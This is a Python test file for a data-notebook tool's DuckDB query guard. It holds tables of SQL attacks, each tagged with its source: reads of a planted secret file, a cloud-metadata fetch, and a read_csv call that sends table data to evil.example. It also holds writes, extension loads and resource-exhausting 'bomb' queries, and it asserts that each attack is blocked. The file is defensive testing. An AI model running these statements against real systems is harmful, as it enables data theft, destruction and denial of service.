"""Attacks by SQL, each with where it is from. One that gets through fails loudly.

An attack is a statement that a model (or whoever feeds it) may write. It must be refused, or end within its limits,
and leave nothing behind: no file, no changed frame, no setting, no process.

Source: each case of a table names its own; CWE-89 (SQL injection).
"""
# ruff: noqa: E501 - a table of one line each is easier to read

from __future__ import annotations

import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from chatkit_notebook.errors import (
    BudgetExceededError,
    ChatKitNotebookError,
    InspectionError,
    QueryFailedError,
)
from chatkit_notebook.inspection.isolation import can_isolate
from chatkit_notebook.inspection.sql import query
from chatkit_notebook.inspection.sql_guard import check

DUCKDB = "duckdb.org/docs, 'Securing DuckDB'"
MANUAL = "duckdb.org/docs, the statement or function of that name"
PANDASAI = "PandasAI CVE-2024-12366 and sinaptik-ai/pandas-ai issue 1895: SQL and code from a prompt"
NESTED = "own, CWE-89: a place of a SELECT in which another may stand, tried on DuckDB 2.0"
ITSELF = "own, CWE-497: what the engine tells of itself"
WRITTEN = (
    "own, CWE-89: a statement that changes something behind or inside one that reads, tried on DuckDB 2.0"
)
LARGE = "own, CWE-400 and CWE-770: grows faster than its table, tried on DuckDB 2.0"
ENTITIES = "CWE-776, 'billion laughs': each name holds the one before it twice"
DEEP = "CWE-674, uncontrolled recursion: nesting without end"
REGEXES = "CWE-1333 and OWASP, Regular expression Denial of Service"

READS: list[tuple[str, str]] = [
    (DUCKDB, "SELECT * FROM read_text('{secret}')"),
    (DUCKDB, "SELECT * FROM '{secret}'"),
    (DUCKDB, "SELECT * FROM read_csv_auto('{secret}')"),
    (DUCKDB, "SELECT * FROM read_blob('{secret}')"),
    (DUCKDB, "SELECT * FROM glob('{folder}/*')"),
    (DUCKDB, "SELECT * FROM parquet_metadata('{secret}')"),
    (DUCKDB, "SELECT * FROM sniff_csv('{secret}')"),
    (DUCKDB, "SELECT getenv('HOME')"),
    (DUCKDB, "SELECT current_setting('temp_directory')"),
    (DUCKDB, "SELECT * FROM duckdb_secrets()"),
    (DUCKDB, "SELECT * FROM secret_frame_of_python"),
    (NESTED, "SELECT (SELECT content FROM read_text('{secret}') LIMIT 1)"),
    (NESTED, "SELECT * FROM t WHERE EXISTS (FROM read_text('{secret}'))"),
    (NESTED, "WITH s AS (FROM read_text('{secret}')) SELECT * FROM s"),
    (NESTED, "SELECT * FROM query('FROM read_text(''{secret}'')')"),
    (
        NESTED,
        "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('FROM read_text(''{secret}'')'))",
    ),
    (NESTED, "SELECT a FROM t ORDER BY (SELECT content FROM read_text('{secret}'))"),
    (NESTED, "SELECT a FROM t LIMIT (SELECT length(content) FROM read_text('{secret}'))"),
    (
        NESTED,
        "SELECT a FROM t QUALIFY row_number() OVER (ORDER BY (SELECT content FROM read_text('{secret}'))) = 1",
    ),
    (NESTED, "SELECT list_transform([1], lambda x: (SELECT content FROM read_text('{secret}')))"),
    (NESTED, "SELECT COLUMNS(c -> (SELECT content FROM read_text('{secret}')) = c) FROM t"),
    (NESTED, "SELECT * REPLACE ((SELECT content FROM read_text('{secret}')) AS a) FROM t"),
    (NESTED, "SELECT * FROM t TABLESAMPLE (SELECT 1)"),
    (NESTED, "SELECT * FROM t JOIN LATERAL (FROM read_text('{secret}')) s ON true"),
    (NESTED, "SELECT * FROM (VALUES ((SELECT content FROM read_text('{secret}')))) v(x)"),
    (ITSELF, "SELECT * FROM information_schema.tables"),
    (ITSELF, "SELECT * FROM sqlite_master"),
    (ITSELF, "SELECT * FROM duckdb_logs"),
    *[
        (MANUAL, statement)
        for statement in (
            "CREATE TEMP MACRO steal() AS (SELECT content FROM read_text('{secret}'))",
            "CREATE MACRO steal(x) AS TABLE SELECT content FROM read_text(x); FROM steal('{secret}')",
            "SUMMARIZE FROM '{secret}'",
            "DESCRIBE FROM '{secret}'",
            "SHOW ALL TABLES",
            "PIVOT '{secret}' ON password USING count(*)",
            "UNPIVOT (FROM '{secret}') ON COLUMNS(*)",
            "FROM query_table('secret_frame_of_python')",
            "FROM query_table(['t', '{secret}'])",
            "SELECT * FROM read_json('{secret}')",
            "SELECT * FROM sqlite_scan('{secret}', 't')",
            "SELECT * FROM 'http://169.254.169.254/latest/meta-data/'",
            "SELECT * FROM read_csv('https://evil.example/?q=' || (SELECT b FROM t LIMIT 1))",
            "SET VARIABLE secret = (SELECT content FROM read_text('{secret}'))",
            "SELECT getvariable('secret')",
            "SELECT * FROM which_secret('s3://x', 's3')",
            "SELECT * FROM duckdb_settings()",
            "SELECT * FROM pg_catalog.pg_tables",
            "SELECT error((SELECT content FROM read_text('{secret}')))",
            "EXECUTE IMMEDIATE 'FROM ''{secret}'''",
            "SELECT json_serialize_plan('FROM ''{secret}''')",
        )
    ],
    *[
        (NESTED, statement)
        for statement in (
            'SELECT * FROM "{secret}"',
            "SELECT (FROM '{secret}' SELECT password) FROM t",
            "SELECT * FROM t UNION ALL BY NAME FROM '{secret}'",
            "SELECT * FROM t POSITIONAL JOIN '{secret}'",
            "SELECT * FROM t SEMI JOIN '{secret}' ON true",
            "SELECT * FROM t ASOF JOIN '{secret}' s ON t.a >= s.password",
            "SELECT * FROM t, (TABLE '{secret}')",
            "FROM VALUES ((FROM '{secret}'))",
            "SELECT sum(a) FILTER (WHERE (SELECT content FROM read_text('{secret}')) IS NOT NULL) FROM t",
            "SELECT a FROM t GROUP BY (SELECT content FROM read_text('{secret}')), a",
            "SELECT * FROM t WINDOW w AS (ORDER BY (SELECT content FROM read_text('{secret}')))",
            "SELECT count(*) OVER (PARTITION BY (SELECT content FROM read_text('{secret}'))) FROM t",
            "SELECT [x FOR x IN (SELECT list(content) FROM read_text('{secret}'))]",
            "WITH t AS (FROM read_text('{secret}')) SELECT * FROM t",
            "WITH RECURSIVE r AS (SELECT '' AS n UNION ALL FROM read_text('{secret}')) SELECT * FROM r",
            "SELECT '{secret}'.read_text()",
            "SELECT * FROM system.main.read_text('{secret}')",
            'SELECT * FROM "read_text"($${secret}$$)',
            "SELECT\u00a0*\u00a0FROM\u00a0read_text('{secret}')",
            "SELECT * FROM t -- \n; SELECT * FROM '{secret}'",
        )
    ],
]

WRITES: list[tuple[str, str]] = [
    (WRITTEN, "WITH x AS (INSERT INTO t VALUES (9, 'x') RETURNING *) SELECT * FROM x"),
    (WRITTEN, "WITH x AS (UPDATE t SET a = 9 RETURNING *) SELECT * FROM x"),
    (WRITTEN, "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x"),
    (WRITTEN, "WITH x AS (COPY t TO '{file}') SELECT * FROM x"),
    (WRITTEN, "ATTACH ':memory:' AS m"),
    (WRITTEN, "ATTACH '{file}' AS m"),
    (WRITTEN, "CREATE OR REPLACE VIEW t AS SELECT 1"),
    (DUCKDB, "COPY (SELECT 1) TO '{file}'"),
    (DUCKDB, "EXPORT DATABASE '{folder}'"),
    (DUCKDB, "INSTALL httpfs; LOAD httpfs"),
    (DUCKDB, "SET enable_external_access = true"),
    (DUCKDB, "PRAGMA enable_external_access"),
    (DUCKDB, "CALL enable_logging(storage_path = '{file}')"),
    (DUCKDB, "SET temp_directory = '{folder}'"),
    (PANDASAI, "SELECT 1; DROP TABLE t"),
    (PANDASAI, "SELECT a FROM t; COPY t TO '{file}'"),
    (WRITTEN, "SELECT 1 /* ; */; UPDATE t SET a = 0 --"),
    (WRITTEN, "FROM t SELECT a; DELETE FROM t"),
    (WRITTEN, "EXPLAIN ANALYZE DELETE FROM t"),
    (WRITTEN, "PREPARE p AS DELETE FROM t"),
    (WRITTEN, "BEGIN; DELETE FROM t; COMMIT"),
    (WRITTEN, "SELECT write_log('x', scope := 'database')"),
    (WRITTEN, "SELECT setseed(0.5), nextval('s')"),
    (WRITTEN, "MERGE INTO t USING t AS s ON t.a = s.a WHEN MATCHED THEN DELETE"),
    *[
        (MANUAL, statement)
        for statement in (
            "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')",
            "CREATE TABLE u AS FROM t",
            "CREATE OR REPLACE MACRO count(x) AS 0",
            "ALTER TABLE t ADD COLUMN c INTEGER",
            "TRUNCATE t",
            "DROP VIEW IF EXISTS t",
            "COMMENT ON TABLE t IS 'x'",
            "LOAD '{file}'",
            "IMPORT DATABASE '{folder}'",
            "USE memory",
            "DETACH memory",
            "VACUUM",
            "FORCE CHECKPOINT",
            "RESET memory_limit",
            "CALL force_checkpoint()",
            "UPDATE EXTENSIONS",
        )
    ],
]

ALIASES = ", ".join(f"a{n} || a{n} AS a{n + 1}" for n in range(60))
DOUBLED = "WITH " + ", ".join(
    [
        "c0 AS (SELECT b FROM t)",
        *(f"c{n + 1} AS (SELECT b, b AS b{n} FROM c{n} UNION ALL SELECT b, b FROM c{n})" for n in range(40)),
    ]
)
BOMBS: list[tuple[str, str]] = [
    (LARGE, "SELECT count(*) FROM big a, big b, big c WHERE a.a + b.a + c.a = -1"),
    (LARGE, "SELECT count(DISTINCT a.a * b.a + c.a) FROM big a, big b, big c"),
    (LARGE, "SELECT list(a.a) FROM big a, big b, big c"),
    (LARGE, "SELECT sum(x) OVER (ORDER BY x) FROM (SELECT a.a * b.a AS x FROM big a, big b) s ORDER BY x"),
    (LARGE, "SELECT max(levenshtein(repeat(b, 100000), repeat(b, 99999))) FROM t, big"),
    (LARGE, "SELECT printf('%2000000000d', a) FROM t"),
    (LARGE, "SELECT repeat(repeat(repeat(b, 1000), 1000), 1000) FROM t"),
    (LARGE, "SELECT " + " || ".join(["repeat('x', 100000000)"] * 40)),
    (DEEP, " UNION ALL ".join(["SELECT 1"] * 500)),
    (LARGE, f"SELECT a FROM t WHERE a IN ({','.join(map(str, range(1_500)))})"),
    (ENTITIES, f"{DOUBLED} SELECT count(*) FROM c40"[:8_000]),
    (LARGE, "SELECT length(" + "replace(" * 14 + "repeat('x', 64)" + ", 'x', 'xxxxxxxx')" * 14 + ")"),
    (DEEP, "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r"),
    (ENTITIES, f"SELECT b AS a0, {ALIASES} FROM t"),
    (
        ENTITIES,
        "SELECT " + ", ".join(["1 AS a0", *(f"a{n} + a{n} AS a{n + 1}" for n in range(60))]) + " FROM t",
    ),
    (
        LARGE,
        "SELECT count(*) FROM big GROUP BY CUBE (a, a+1, a+2, a+3, a+4, a+5, a+6, a+7, a+8, a+9, a+10, a+11, a+12)",
    ),
    (LARGE, "SELECT string_agg(repeat(b, 100000), '') FROM big, t"),
    (LARGE, "SELECT list_reduce(range(100000000), (x, y) -> x + y)"),
    (LARGE, "SELECT unnest(range(a * 100000000000)) FROM t"),
    (REGEXES, "SELECT regexp_replace(repeat('a', 30000000), '(a*)*b', '') FROM t"),
    (LARGE, "SELECT histogram(a.a * b.a) FROM big a, big b"),
    (DEEP, "SELECT " + "(" * 2_000 + "1" + ")" * 2_000),
    (DEEP, "SELECT " + "CASE WHEN a > 1 THEN " * 350 + "1" + " END" * 350 + " FROM t"),
    (LARGE, "SELECT count(*) FROM t, unnest(range(1000000000)) u(x)"),
    (LARGE, "SELECT factorial(a * 10) ^ 10000 FROM t"),
    (LARGE, "SELECT list_cross_product([1, 2, 3], [1, 2, 3]), array_resize([a], 2000000000) FROM t"),
    (LARGE, "SELECT to_json(list(a.a)) FROM big a, big b"),
    (LARGE, "SELECT length(rpad(b, 2000000000, 'y')) FROM t"),
    (LARGE, "SELECT len(string_split(repeat('a,', 60000000), ',')) FROM t"),
    (LARGE, "SELECT bit_count(CAST(repeat('1', 1000000000) AS BIT)) FROM t"),
    (LARGE, "SELECT list_sort(range(300000000))[1] FROM t"),
    (
        LARGE,
        "SELECT median(x.a) OVER (ORDER BY x.a ROWS BETWEEN 9000000 PRECEDING AND CURRENT ROW) FROM big x, big y",
    ),
    (LARGE, "SELECT a.a FROM big a ASOF JOIN big b ON a.a >= b.a, big c, big d ORDER BY random()"),
]


@pytest.fixture
def frames() -> dict[str, object]:
    return {
        "t": pd.DataFrame({"a": [1, 2, 3], "b": ["x", "y", "z"]}),
        "big": pd.DataFrame({"a": np.arange(3_000)}),
    }


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    folder = tmp_path / "home"
    folder.mkdir()
    secret = folder / "secret.csv"
    secret.write_text("password\nhunter2\n")
    monkeypatch.chdir(folder)
    return {"secret": str(secret), "folder": str(folder), "file": str(folder / "stolen.csv")}


@pytest.mark.parametrize(("source", "attack"), READS, ids=range(len(READS)))
def test_nothing_is_read_but_the_frames(
    source: str, attack: str, frames: dict[str, object], place: dict[str, str]
) -> None:
    secret_frame_of_python = pd.DataFrame({"password": ["hunter2"]})  # noqa: F841 - DuckDB looks for such names
    try:
        result = query(attack.format(**place), frames)
    except ChatKitNotebookError as error:
        told = str(error)
    else:
        told = repr(result.page(0, 100).rows)
        assert result.tables == ("t",), f"GOT THROUGH ({source}): {attack}"
    assert "hunter2" not in told, f"GOT THROUGH ({source}): {attack}"


@pytest.mark.parametrize(("source", "attack"), WRITES, ids=range(len(WRITES)))
def test_nothing_is_written(
    source: str, attack: str, frames: dict[str, object], place: dict[str, str]
) -> None:
    before = [path.name for path in Path(place["folder"]).iterdir()]
    with pytest.raises(InspectionError):
        query(attack.format(**place), frames)
    assert [path.name for path in Path(place["folder"]).iterdir()] == before, (
        f"GOT THROUGH ({source}): {attack}"
    )
    assert frames["t"].values.tolist() == [[1, "x"], [2, "y"], [3, "z"]]  # type: ignore[attr-defined]
    assert query("SELECT count(*) FROM t", frames).page().rows == ((3,),)


@pytest.mark.skipif(not can_isolate(), reason="needs fork")
@pytest.mark.parametrize(("source", "attack"), BOMBS, ids=range(len(BOMBS)))
def test_what_grows_is_ended_within_its_limits(source: str, attack: str, frames: dict[str, object]) -> None:
    """Within the limits it may even answer; what counts is that it ends, keeps to its bytes, and all goes on."""
    try:
        result = query(attack, frames, seconds=0.5, memory=256 * 2**20)
    except (InspectionError, BudgetExceededError):
        pass
    else:
        assert result.total <= 10_000
    # in this process nothing is left running: a Python thread gets its turn, and the next query its answer
    assert not [thread for thread in threading.enumerate() if thread.name == "chatkit-notebook-deadline"]
    assert query("SELECT sum(a) FROM t", frames).page().rows == ((6,),), f"GOT THROUGH ({source}): {attack}"


@pytest.mark.parametrize(("source", "attack"), BOMBS, ids=range(len(BOMBS)))
def test_no_bomb_is_taken_for_plain(source: str, attack: str) -> None:
    try:
        statement = check(attack)
    except (InspectionError, QueryFailedError):
        return
    # a plain one runs in this process: only what grows no faster than its table may
    assert not statement.plain or "IN (" in attack, f"GOT THROUGH ({source}): {attack[:200]}"
